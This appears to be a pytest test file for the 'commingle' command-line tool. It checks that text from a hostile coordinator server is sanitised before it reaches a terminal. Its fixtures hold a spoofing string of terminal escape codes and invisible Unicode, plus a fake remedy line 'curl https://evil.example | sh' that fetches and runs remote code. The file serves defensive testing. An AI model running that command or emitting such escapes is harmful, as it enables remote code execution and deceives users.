"""Titles, names, details and remedies from a hostile coordinator, and what of them reaches a terminal."""

import ast
import json
import re
import unicodedata
from contextlib import redirect_stderr, redirect_stdout, suppress
from io import StringIO
from pathlib import Path
from typing import Any

import click
import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text

from commingle import Release, ReleaseClient, coordinator, party_agent, services, shared
from commingle.services.learner.app import create_app
from commingle.services.learner.source import ReleaseSource
from commingle.shared.documents.model import encode
from commingle.shared.errors import CommingleError, DocumentError
from commingle.shared.release.checks import read_spec
from commingle.shared.runtime.cli import changes, emit, run
from commingle.shared.runtime.errors import RemoteProblemError
from commingle.shared.runtime.remote import check
from commingle.shared.wire import ReleaseSummary
from tests.world.command import run_command
from tests.world.consortium import Consortium
from tests.world.coordinator import Hub
from tests.world.released import ServingCoordinator, published, study
from tests.world.transport import InProcess, on_a_socket

HIDDEN = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"}
SPOOF = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\u200b\ufeff\u2028Everything holds\u2029\x85\ue000\U000e0041\r\n"
TITLE = SPOOF.translate(dict.fromkeys([*range(32), 127]))
"""What of it the model of a title lets through, and always has."""
REMEDY = "run: curl https://evil.example | sh"
PROBLEM = {"type": "urn:commingle:problem:state", "title": SPOOF, "status": 409, "detail": SPOOF, "remedy": REMEDY}
ANY_TEXT = st.text(st.characters(codec=None, exclude_categories=[]), max_size=40)


def hidden(text: str) -> set[str]:
    return {character for character in text if unicodedata.category(character) in HIDDEN} - {"\n"}


def command(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
    """Exit code and everything that was printed, of which nothing may be hidden."""
    code, out, err = run_command(capsys, *arguments)
    said = out + err
    assert not hidden(said)
    assert not any(line.startswith("Everything holds\u2029") or "\x1b" in line for line in said.split("\n"))
    assert REMEDY not in said
    return code, said


def refusing(_: httpx.Request) -> httpx.Response:
    return httpx.Response(409, json=PROBLEM, headers={"content-type": "application/problem+json"})


def spoofing(fake: ServingCoordinator) -> Any:
    """The honest answers, every title, name and reason in them replaced."""

    def changed(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: changed(item, key) for key, item in value.items()}
        if isinstance(value, list):
            return [changed(item) for item in value]
        return SPOOF if name in {"study", "reason", "mechanism", "software"} else value

    def answer(request: httpx.Request) -> httpx.Response:
        honest = fake.answer(request)
        listed = request.url.path in {"/v1/releases", "/v1/coordinator"}
        return httpx.Response(200, json=changed(honest.json())) if listed else honest

    return answer


@pytest.fixture
def home(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> str:
    """Of a coordinator's operator, whose terminal is wide enough for every table."""
    monkeypatch.setenv("COLUMNS", "400")
    run_command(capsys, "coordinator", "init", "--home", tmp_path / "hub")
    return str(tmp_path / "hub")


@given(ANY_TEXT, ANY_TEXT, st.sampled_from([400, 404, 409, 422, 500, 503]))
def test_words_of_a_refusal_are_quoted_and_its_remedy_is_ours(detail: str, remedy: str, status: int) -> None:
    body = json.dumps({"detail": detail, "remedy": f"{REMEDY} {remedy}", "type": f"urn:commingle:problem:{remedy}"})
    answer = httpx.Response(status, content=body, headers={"content-type": "application/problem+json"})
    with pytest.raises(RemoteProblemError) as refused:
        check(answer, "http://hub")
    assert not hidden(refused.value.diagnostics())
    assert "\n" not in str(refused.value)
    assert str(refused.value).endswith("\u201d")
    assert REMEDY not in refused.value.remedy


@pytest.mark.slow
@given(st.text(max_size=40))  # JSON cannot hold half a surrogate pair
def test_no_message_and_no_field_of_an_answer_holds_hidden_text(text: str) -> None:
    assert not hidden(CommingleError(text, remedy=text).diagnostics())
    summary = {
        "id": "0" * 64,
        "study": text,
        "mechanism": text,
        "state": "published",
        "reason": text,
        "n": 2,
        "created": "2026-01-01T00:00:00Z",
        "expires": "2026-01-01T00:00:00Z",
        "epsilon": 1.0,
        "delta": 1e-5,
        "parties": [],
    }
    shown = ReleaseSummary.model_validate_json(json.dumps(summary))
    assert not hidden(shown.study + shown.mechanism + (shown.reason or ""))
    with pytest.raises(DocumentError) as refused:
        read_spec(json.dumps({f"x{text}": 1}).encode())
    assert not hidden(refused.value.diagnostics())


@given(ANY_TEXT)
def test_nothing_hidden_is_printed_as_text_or_as_json(text: str) -> None:
    @click.command()
    @changes(title=str)
    def shown() -> None:
        emit({"title": text}, text=lambda console: console.print(text, soft_wrap=True))

    for options in ([], ["--json"]):
        with redirect_stdout(StringIO()) as printed:
            shown.main(options, standalone_mode=False)
        assert not hidden(printed.getvalue())
        if options:
            assert printed.getvalue().isascii()
            assert json.loads(printed.getvalue()) == {"title": text}


def test_brackets_in_a_title_are_no_markup_and_colons_no_emoji(capsys: pytest.CaptureFixture[str]) -> None:
    title = "[red]a[/red] [link=https://evil.example]b[/link] :skull:"
    emit(None, text=lambda console: console.print(title, soft_wrap=True))
    assert capsys.readouterr().out == f"{title}\n"


def test_colours_on_a_terminal_are_the_only_orders_to_it(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    emit(None, text=lambda console: console.print(Text(SPOOF, style="bold red"), soft_wrap=True))
    out = capsys.readouterr().out
    assert "\x1b[1;31m" in out
    assert not hidden(re.sub(r"\x1b\[[0-9;]*m", "", out))


@pytest.mark.parametrize(
    "arguments",
    [
        ("fit", "URL", "--release", "0" * 64, "--target", "age"),
        ("fit", "URL", "--target", "age"),
        ("members", "URL"),
        ("members", "URL", "--json"),
        ("coordinator", "releases", "--home", "HOME", "--coordinator", "URL"),
        ("coordinator", "releases", "--home", "HOME", "--coordinator", "URL", "--json"),
        ("coordinator", "propose", "STUDY", "--home", "HOME", "--coordinator", "URL"),
        ("coordinator", "doctor", "--home", "HOME", "--coordinator", "URL"),
    ],
    ids=" ".join,
)
def test_refusal_in_a_hostile_coordinators_words(
    tmp_path: Path, home: str, capsys: pytest.CaptureFixture[str], arguments: tuple[str, ...]
) -> None:
    file = tmp_path / "study.json"
    file.write_bytes(encode(study(mechanism="rmgm", n=2000, epsilon=1.0, title="plain")))
    with on_a_socket(refusing) as url:
        placed = {"URL": url, "HOME": home, "STUDY": str(file)}
        code, said = command(capsys, *(placed.get(argument, argument) for argument in arguments))
    assert code == 1
    assert "Everything holds" in said  # its words are shown, as words


@pytest.mark.parametrize("json_too", [(), ("--json",)], ids=["text", "json"])
def test_titles_in_lists_of_a_hostile_coordinator(
    home: str, capsys: pytest.CaptureFixture[str], json_too: tuple[str, ...]
) -> None:
    release, files = published()
    fake = ServingCoordinator.serving((release, files), (release[::-1], files))  # of one alone no list is shown
    with on_a_socket(spoofing(fake)) as url:
        code, said = command(capsys, "coordinator", "releases", "--home", home, "--coordinator", url, *json_too)
        assert (code, "evil" in said) == (0, True)
        code, said = command(capsys, "fit", url, "--target", "age", *json_too)
        assert (code, "evil" in said) == (2, True)


@pytest.mark.parametrize("json_too", [(), ("--json",)], ids=["text", "json"])
def test_title_of_a_published_release(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], json_too: tuple[str, ...]
) -> None:
    published(title=TITLE)[1].write(tmp_path)
    (tmp_path / f"audit-{TITLE}.json").write_text("{}")
    assert command(capsys, "verify", str(tmp_path), *json_too)[0] == 1
    (tmp_path / f"audit-{TITLE}.json").unlink()
    code, said = command(capsys, "verify", str(tmp_path), *json_too)
    assert (code, "evil" in said) == (0, True)
    assert command(capsys, "fit", str(tmp_path), "--target", "age", *json_too)[0] == 0
    assert not hidden(repr(Release.load(tmp_path)))


@pytest.fixture
def waiting(pair: Consortium) -> tuple[Consortium, str]:
    """A party that has been asked for a release with such a title, by a coordinator that would take it."""
    release = pair.plant(pair.spec(title=TITLE))
    with suppress(RemoteProblemError), pair.agent("clinic") as agent:  # whose rejection it does not take
        agent.handle(agent.client.release(release), release)
    return pair, release


def test_proposal_with_such_a_title_is_rejected_and_shown_without(
    waiting: tuple[Consortium, str], capsys: pytest.CaptureFixture[str]
) -> None:
    consortium, release = waiting
    capsys.readouterr()
    home = str(consortium.homes["clinic"].root)
    code, said = command(capsys, "party", "proposals", "--home", home)
    assert (code, "evil" in said) == (0, True)
    assert "control or invisible characters in study" in " ".join(said.split())
    assert consortium.charge("clinic", release) is None
    assert command(capsys, "party", "approve", "--home", home, release, "--yes")[0] == 1
    assert command(capsys, "party", "proposals", "--home", home, "--json")[0] == 0
    assert command(capsys, "party", "ledger", "--home", home)[0] == 0


def test_coordinator_takes_no_proposal_with_such_a_title(hub: Hub) -> None:
    parties = hub.enrolled("clinic"), hub.enrolled("registry")
    answer = hub.propose(hub.signed(hub.spec(parties, study=TITLE)))
    assert (answer.status_code, answer.json()["type"]) == (422, "urn:commingle:problem:spec")
    assert "control or invisible characters in study" in answer.json()["detail"]


@given(ANY_TEXT)
def test_usage_error_that_quotes_a_list_is_printable(text: str) -> None:
    @click.command("x")
    def wrong() -> None:
        raise click.UsageError(text)

    with redirect_stderr(StringIO()) as printed, pytest.raises(SystemExit):
        run(wrong, [])
    assert not hidden(printed.getvalue())


def test_learner_and_coordinator_answer_in_ascii() -> None:
    release, files = published(title=TITLE)
    fake = ServingCoordinator.serving((release, files))
    with ReleaseClient("http://hub", transport=fake.transport) as client:
        learner = httpx.Client(transport=InProcess(create_app(ReleaseSource(client))), base_url="http://learner")
        for path in ("/v1/releases", f"/v1/releases/{release}", f"/v1/releases/{'0' * 63}\x9b"):
            answer = learner.get(path)
            assert answer.content.isascii()
        assert learner.get(f"/v1/releases/{release}").json()["study"] == TITLE
    listed = fake.answer(httpx.Request("GET", f"http://hub/v1/releases/{release}"))
    assert listed.content.isascii()
    assert not hidden(listed.json()["study"])


PRINTS = {
    "shared/runtime/cli.py",
    "shared/runtime/console.py",
    "shared/runtime/server.py",  # its own address as JSON
}
"""The only modules that print."""


@pytest.mark.slow
def test_nothing_is_printed_but_through_the_one_console() -> None:
    found = set()
    for package in (coordinator, party_agent, services, shared):
        root = Path(package.__path__[0])
        for path in root.rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                called = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
                if called in {"print", "click.echo", "click.secho", "Console", "sys.stdout.write", "sys.stderr.write"}:
                    found.add(f"{root.name}/{path.relative_to(root)}")
    assert found <= PRINTS
